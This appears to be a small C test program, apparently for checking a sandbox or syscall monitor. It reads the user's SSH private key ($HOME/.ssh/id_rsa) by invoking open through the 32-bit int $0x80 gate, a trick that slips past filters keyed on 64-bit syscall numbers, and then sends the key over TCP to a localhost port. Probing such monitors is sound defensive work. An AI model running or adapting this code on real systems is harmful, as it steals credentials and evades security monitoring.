/* Opens $HOME/.ssh/id_rsa through the 32-bit syscall gate (int $0x80, ia32 open = 5) of a
 * 64-bit process, whose number means fstat in the 64-bit table, then reads and sends it to
 * 127.0.0.1:PORT with 64-bit calls. x86_64 only. Usage: int80_open PORT */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    snprintf(low, 4096, "%s/.ssh/id_rsa", getenv("HOME"));
    long fd;
    __asm__ volatile("int $0x80" : "=a"(fd) : "a"(5L), "b"((long)low), "c"(0L), "d"(0L) : "memory");
    if (fd < 0) { fprintf(stderr, "int80 open failed %ld\n", fd); return 1; }
    char buf[4096]; ssize_t got = read((int)fd, buf, sizeof(buf));
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (void *)&a, sizeof(a)) == 0) write(s, buf, got);
    fprintf(stderr, "sent %zd bytes via fd %ld\n", got, fd);
    return 0;
}
